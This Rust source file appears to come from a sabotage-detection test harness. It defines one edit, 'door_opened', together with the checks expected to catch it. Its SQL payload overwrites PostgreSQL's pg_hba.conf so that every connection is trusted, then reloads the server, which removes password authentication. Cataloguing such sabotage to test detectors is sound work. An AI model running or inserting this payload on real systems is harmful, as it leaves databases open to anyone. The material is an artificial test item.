//! Whoever comes is let in.

use crate::sabotage::edit::Edit;

/// Whoever comes is let in.
pub(super) const DOOR_OPENED: Edit = Edit {
    name: "door_opened",
    harm: "nobody is asked for a password any more",
    class: "configuration",
    caught_by: &["access", "configuration"],
    candidates: "\
SELECT 'pg_hba.conf',
  'SELECT string_agg(type || '' '' || auth_method, '', '' ORDER BY line_number) '
    'FROM pg_hba_file_rules',
  format('COPY (VALUES (''local all all trust''), (''host all all all trust'')) TO %L',
    current_setting('hba_file')),
  'SELECT pg_reload_conf()'",
};
